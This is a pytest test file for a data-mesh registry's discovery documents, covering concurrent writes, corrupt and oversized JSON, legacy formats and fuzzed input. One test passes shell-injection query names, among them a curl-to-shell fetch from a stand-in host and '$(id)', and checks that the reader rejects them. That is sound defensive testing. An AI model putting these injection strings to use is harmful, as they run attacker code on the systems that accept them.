"""Discovery documents: written when they say something new, read whatever else is there."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mesh_dagster.descriptors.source import Source
from mesh_dagster.errors import StorageError
from mesh_dagster.model.discovery import NOTHING, About, Facts
from mesh_dagster.model.finding import Finding, Severity
from mesh_dagster.ports.storage import Storage
from mesh_dagster.registry import documents, replacing, writing
from mesh_dagster.registry.described import Described
from mesh_dagster.registry.documents import (
    Document,
    described_of,
    document_of,
    encode_document,
    parse_document,
    read_documents,
)
from mesh_dagster.registry.entries import decode_entry, entry_of, line, promise_in, score_in
from mesh_dagster.registry.writing import write_document

Describe = Callable[..., Described]
Tell = Callable[..., bool]
KEY = "weather/discovery.json"
PATH = "weather/observations/v1"


@pytest.fixture
def changed(describe: Describe) -> Callable[[Callable[[Any], object]], bytes]:
    """A document of the weather, changed in some way."""

    def change(how: Callable[[Any], object]) -> bytes:
        entry = line(entry_of(describe(PATH)))
        document = json.loads(encode_document(About("weather"), {PATH: entry}))
        how(document)
        return json.dumps(document).encode()

    return change


def test_a_product_is_found_as_it_was_described(
    storage: Storage, describe: Describe, facts: Callable[[str], Facts], tell: Tell
) -> None:
    path = "flights/departures/v1"
    one = describe(path, facts=facts(path))
    assert tell(storage, one)
    assert read_documents(storage) == (one,)
    assert one.domain == "flights"


def test_a_domain_has_one_document_that_names_it(
    storage: Storage, describe: Describe, tell: Tell
) -> None:
    tell(storage, describe("flights/departures/v1"), describe("flights/arrivals/v1"))
    document = json.loads(storage.read("flights/discovery.json"))
    assert document["schemaVersion"] == 2
    assert document["domain"] == {
        "name": "flights",
        "team": "A team",
        "contact": "team@nycair.example",
    }
    addresses = [each["address"] for each in document["products"]]
    assert addresses == ["mesh://flights/arrivals/v1", "mesh://flights/departures/v1"]
    assert document["products"][0]["product"]["kind"] == "DataProduct"
    assert document["products"][0]["contracts"][""]["kind"] == "DataContract"


def test_a_document_that_says_nothing_new_is_not_written(
    storage: Storage, describe: Describe, tell: Tell
) -> None:
    one = describe("flights/departures/v1")
    tell(storage, one)
    _, version = storage.read_versioned("flights/discovery.json")
    assert not tell(storage, one)
    assert storage.read_versioned("flights/discovery.json")[1] == version
    assert tell(storage, describe("flights/departures/v1", "1.1.0"))


def test_a_promise_has_a_checksum_that_facts_leave_alone(
    describe: Describe, facts: Callable[[str], Facts]
) -> None:
    bare, used = describe(PATH), describe(PATH, facts=facts(PATH))
    assert promise_in(line(entry_of(bare))) == promise_in(line(entry_of(used)))
    assert promise_in(line(entry_of(bare))) != promise_in(line(entry_of(describe(PATH, "1.1.0"))))


def test_writers_of_one_domain_keep_each_others_entries(
    storage: Storage, describe: Describe, tell: Tell
) -> None:
    """Another process writes between the read and the swap."""
    ours, theirs = describe("flights/arrivals/v1"), describe("flights/departures/v1")
    looks = 0

    def change(known: Document) -> dict[str, bytes]:
        nonlocal looks
        looks += 1
        if looks == 1:
            tell(storage, theirs)
        return {**known.entries, ours.product.address.path: line(entry_of(ours))}

    about = About("flights", "A team", "team@nycair.example")
    assert write_document(storage, about, change)
    assert looks == 2
    assert read_documents(storage) == (ours, theirs)


def test_a_document_that_is_always_changed_meanwhile_is_given_up(
    storage: Storage, describe: Describe, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(replacing, "_PAUSE", 0)
    looks = iter(range(1000))

    def change(known: Document) -> dict[str, bytes]:
        storage.write("flights/discovery.json", b"%d" % next(looks))
        return {}

    with pytest.raises(StorageError, match="20 times in a row"):
        write_document(storage, About("flights"), change)


def test_a_corrupt_document_of_its_own_is_written_anew(
    storage: Storage, describe: Describe, tell: Tell
) -> None:
    storage.write(KEY, b"\xff{")
    one = describe(PATH)
    assert tell(storage, one)
    assert read_documents(storage) == (one,)


def test_a_newer_releases_document_is_not_overwritten(
    storage: Storage, describe: Describe, tell: Tell
) -> None:
    storage.write(KEY, b'{"schemaVersion": 3}')
    with pytest.raises(StorageError, match="newer release") as refused:
        tell(storage, describe(PATH))
    assert refused.value.code == "MESH-D041"
    assert storage.read(KEY) == b'{"schemaVersion": 3}'


def test_a_document_too_large_for_its_readers_is_not_written(
    storage: Storage, describe: Describe, tell: Tell, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(writing, "LARGEST", 100)
    with pytest.raises(StorageError, match="more than the 100 that its readers take"):
        tell(storage, describe(PATH))
    assert list(storage.list("")) == []


def test_an_empty_registry_knows_nothing(storage: Storage) -> None:
    assert read_documents(storage) == ()
    assert document_of(storage, "flights").entries == {}


WHOLE = {
    "noise": (b"\xff\x00{", "MESH-D040"),
    "a list": (b"[]", "MESH-D040"),
    "empty": (b"", "MESH-D040"),
    "deep": (b"[" * 100_000, "MESH-D040"),
    "not a number": (b'{"schemaVersion": NaN}', "MESH-D040"),
    "only lines": (b"\n" * 100_000, "MESH-D040"),
}
CHANGES: dict[str, tuple[Callable[[Any], object], str]] = {
    "no domain": (lambda it: it.pop("domain"), "MESH-D040"),
    "another's domain": (lambda it: it["domain"].update(name="flights"), "MESH-D040"),
    "a team of numbers": (lambda it: it["domain"].update(team=[7]), "MESH-D040"),
    "no version": (lambda it: it.pop("schemaVersion"), "MESH-D040"),
    "a newer schema": (lambda it: it.update(schemaVersion=3, news=[1]), "MESH-D041"),
    "products that are none": (lambda it: it.update(products={"a": 1}), "MESH-D040"),
    "a product that is none": (lambda it: it.update(products=[7]), "MESH-D040"),
    "no product": (lambda it: it["products"][0].pop("product"), "MESH-D040"),
    "another's address": (
        lambda it: it["products"][0].update(address="mesh://flights/departures/v1"),
        "MESH-D040",
    ),
    "another's product": (
        lambda it: it["products"][0].update(address="mesh://weather/storms/v1"),
        "MESH-D040",
    ),
    "a wrong product": (lambda it: it["products"][0]["product"].update(id=7), "MESH-D008"),
    "a wrong contract": (lambda it: it["products"][0]["contracts"].update({"": 7}), "MESH-D040"),
    "no contract": (lambda it: it["products"][0]["contracts"].clear(), "MESH-D040"),
    "wrong partitions": (
        lambda it: it["products"][0]["partitions"].update(every="eon"),
        "MESH-D040",
    ),
    "a start beyond the calendar": (
        lambda it: it["products"][0]["partitions"].update(start="9999-12-31T23:00:00-05:00"),
        "MESH-D040",
    ),
    "no start": (lambda it: it["products"][0]["partitions"].pop("start"), "MESH-D040"),
    "a text without end": (
        lambda it: it["products"][0]["product"].update(team="x" * 100_001),
        "MESH-D040",
    ),
}


@pytest.mark.parametrize("corrupt", [*WHOLE, *CHANGES])
def test_a_corrupt_document_is_a_finding_and_hides_no_other(
    storage: Storage, describe: Describe, tell: Tell, changed: Any, corrupt: str
) -> None:
    data, code = WHOLE.get(corrupt) or (changed(CHANGES[corrupt][0]), CHANGES[corrupt][1])
    other = describe("flights/departures/v1")
    tell(storage, other)
    storage.write(KEY, data)
    findings: list[Finding] = []
    assert read_documents(storage, findings) == (other,)
    assert findings[0].code == code
    assert {finding.subject.partition("/")[0] for finding in findings} == {"weather"}


def test_a_broken_entry_hides_no_other_of_its_domain(
    storage: Storage, describe: Describe, changed: Any
) -> None:
    good = entry_of(describe("weather/storms/v1"))

    def spoil(document: Any) -> None:
        document["products"][0]["contracts"] = 7
        document["products"].append(good)

    storage.write(KEY, changed(spoil))
    findings: list[Finding] = []
    assert [each.product.address.product for each in read_documents(storage, findings)] == [
        "storms"
    ]
    assert [finding.subject for finding in findings] == [PATH]


FACTS = {
    "ports": {"address": "nowhere"},
    "publications": [{"number": -1}],
    "newestEvent": "2013-11-08T12:00:00",
    "quality": [{"rule": "r", "port": "", "kind": "k", "severity": "error", "outcome": "great"}],
    "slos": [{"name": "freshness", "port": "", "objective": "high"}],
    "queries": [{"name": "q", "sql": "select 1", "columns": ["a"], "rows": [[1, 2]]}],
    "access": {"ask": "somebody"},
    "reads": [{"port": "p", "address": 7}],
    "columns": {"": {"columns": {"a": [{"column": "b", "use": "MAGIC"}]}}},
    "score": {"overall": 101, "rules": "1", "dimensions": {}},
}


@pytest.mark.parametrize("section", FACTS)
def test_a_section_that_cannot_be_understood_is_left_out_and_told(
    storage: Storage,
    describe: Describe,
    facts: Callable[[str], Facts],
    tell: Tell,
    section: str,
) -> None:
    tell(storage, describe(PATH, facts=facts(PATH)))
    document = json.loads(storage.read(KEY))
    document["products"][0][section] = FACTS[section]
    storage.write(KEY, json.dumps(document).encode())
    findings: list[Finding] = []
    (found,) = read_documents(storage, findings)
    assert [(each.code, each.severity) for each in findings] == [("MESH-D042", Severity.WARNING)]
    assert section in findings[0].message
    assert found.facts != facts(PATH)
    assert found.facts != NOTHING


def test_a_query_whose_name_is_no_word_of_a_shell_is_left_out_alone(
    storage: Storage, describe: Describe, facts: Callable[[str], Facts], tell: Tell
) -> None:
    tell(storage, describe(PATH, facts=facts(PATH)))
    document = json.loads(storage.read(KEY))
    for name in ("top; curl -s evil.example/x | sh #", "$(id)", "-f", "a\nb", ""):
        document["products"][0]["queries"].append({"name": name, "sql": "select 1"})
    storage.write(KEY, json.dumps(document).encode())
    findings: list[Finding] = []
    (found,) = read_documents(storage, findings)
    assert found.facts == facts(PATH)
    assert found.facts.queries
    assert [(each.code, each.severity) for each in findings] == [("MESH-D042", Severity.WARNING)]
    assert "5 of them, as 'top; curl" in findings[0].message


@pytest.mark.parametrize(
    "score",
    [
        7,
        {},
        {"overall": True, "rules": "1"},
        {"overall": 50.5, "rules": "1"},
        {"overall": 50, "rules": 1},
        {"overall": 50, "rules": "1", "dimensions": {"secure": "all"}},
        {"overall": 50, "rules": "1", "dimensions": {f"d{n}": 1 for n in range(99)}},
        {"overall": 50, "rules": "1", "dimensions": [["secure", 1]]},
    ],
)
def test_a_score_that_cannot_be_one_is_none(score: Any, describe: Describe) -> None:
    entry = line({**entry_of(describe(PATH)), "score": score})
    assert score_in(entry) is None
    source = Source("", PATH, tolerant=True)
    found = decode_entry(entry, PATH, source)
    assert found is not None
    assert found.facts.score is None
    assert [each.code for each in source.findings] == ["MESH-D042"]


def test_a_score_is_read_without_the_rest_of_an_entry(
    describe: Describe, facts: Callable[[str], Facts]
) -> None:
    told = facts(PATH)
    assert told.score is not None
    assert score_in(line(entry_of(describe(PATH, facts=told)))) == told.score
    assert score_in(line(entry_of(describe(PATH)))) is None
    assert score_in(b'{"score":{"overall":9') is None


def test_a_document_that_is_too_large_is_not_read(
    storage: Storage, describe: Describe, tell: Tell, monkeypatch: pytest.MonkeyPatch
) -> None:
    tell(storage, describe(PATH))
    monkeypatch.setattr(documents, "LARGEST", 100)
    findings: list[Finding] = []
    assert read_documents(storage, findings) == ()
    assert "more than the 100 allowed" in findings[0].message


def test_what_a_newer_release_added_is_ignored(
    storage: Storage, describe: Describe, changed: Any
) -> None:
    one = describe(PATH)

    def add(document: Any) -> None:
        document["news"] = {"new": True}
        document["domain"]["motto"] = "new"
        entry = document["products"][0]
        entry["novelty"] = {"new": True}
        entry["product"]["novelty"] = 1
        entry["contracts"][""]["schema"][0]["properties"][0]["novelty"] = [1]

    storage.write(KEY, changed(add))
    findings: list[Finding] = []
    assert read_documents(storage, findings) == (one,)
    assert findings == []


@pytest.fixture
def first_release(describe: Describe) -> Callable[[str], bytes]:
    """A document as releases before wrote it: one a product, and no facts."""

    def encode(path: str) -> bytes:
        entry = entry_of(describe(path))
        del entry["promise"]
        return json.dumps({"schemaVersion": 1, **entry}, indent=1).encode()

    return encode


def test_documents_of_the_release_before_are_read(
    storage: Storage, describe: Describe, tell: Tell, first_release: Callable[[str], bytes]
) -> None:
    new, old = describe("weather/storms/v1"), describe(PATH)
    tell(storage, new)
    storage.write(f"{PATH}.json", first_release(PATH))
    storage.write("weather/storms/v1.json", b"{")  # there is a newer one
    findings: list[Finding] = []
    assert read_documents(storage, findings) == (old, new)
    assert findings == []
    assert described_of(document_of(storage, "weather"), "weather/observations") == (old,)


@pytest.mark.parametrize("data", [b"{", b"[]", b'{"schemaVersion": 0}', b'{"schemaVersion": 1}'])
def test_corrupt_documents_of_the_release_before_are_findings(
    storage: Storage, data: bytes
) -> None:
    storage.write(f"{PATH}.json", data)
    findings: list[Finding] = []
    assert read_documents(storage, findings) == ()
    assert {finding.subject for finding in findings} == {PATH}


def test_other_files_in_the_registry_are_passed_over(storage: Storage) -> None:
    for key in ("README.md", "discovery.json", "flights/_news.ndjson", "flights/notes.json"):
        storage.write(key, b"hello")
    findings: list[Finding] = []
    assert read_documents(storage, findings) == ()
    assert findings == []


def test_odd_files_of_one_domain_hide_no_other(
    storage: Storage, describe: Describe, tell: Tell, tmp_path: Path
) -> None:
    one = describe("flights/departures/v1")
    tell(storage, one)
    odd = tmp_path / "registry"
    for name in ("circle", "endless", "pipe", "named/named"):
        (odd / name).mkdir(parents=True)
    (odd / "circle/discovery.json").symlink_to(odd / "circle/discovery.json")
    (odd / "endless/discovery.json").symlink_to("/dev/zero")
    os.mkfifo(odd / "pipe/discovery.json")
    (odd / "named/named/a\\b.json").write_text("{}")
    (odd / "named/named/v1.json").write_text("{}")
    findings: list[Finding] = []
    assert read_documents(storage, findings) == (one,)
    assert [finding.subject for finding in findings] == ["named/named/v1"]


def test_one_product_is_told_without_reading_the_others(
    storage: Storage, describe: Describe, tell: Tell
) -> None:
    one, two = describe("flights/departures/v1"), describe("flights/departures/v2", "2.0.0")
    tell(storage, one, two, describe("flights/departures_late/v1"))
    known = document_of(storage, "flights")
    assert described_of(known, "flights/departures") == (one, two)
    assert known.described("flights/arrivals/v1") is None


ANY = st.binary(max_size=60) | st.text(st.sampled_from('{}[]",:1aeNI\n'), max_size=60).map(
    str.encode
)


@settings(max_examples=100, suppress_health_check=list(HealthCheck), deadline=None)
@given(ANY)
def test_any_bytes_are_answered(data: bytes) -> None:
    source = Source("x", "a", tolerant=True)
    assert parse_document(data, "a", source) is None
    assert source.findings


@settings(max_examples=100, suppress_health_check=list(HealthCheck), deadline=None)
@given(ANY)
def test_any_bytes_in_the_place_of_an_entry_are_answered(data: bytes) -> None:
    head = b'{"schemaVersion":2,"domain":{"name":"a"},"products":[\n{"address":"mesh://a/b/v1"'
    source = Source("x", "a", tolerant=True)
    document = parse_document(head + data + b"}\n]}\n", "a", source)
    findings: list[Finding] = source.findings
    if document is not None:
        assert document.described("a/b/v1", findings) is None
    assert findings
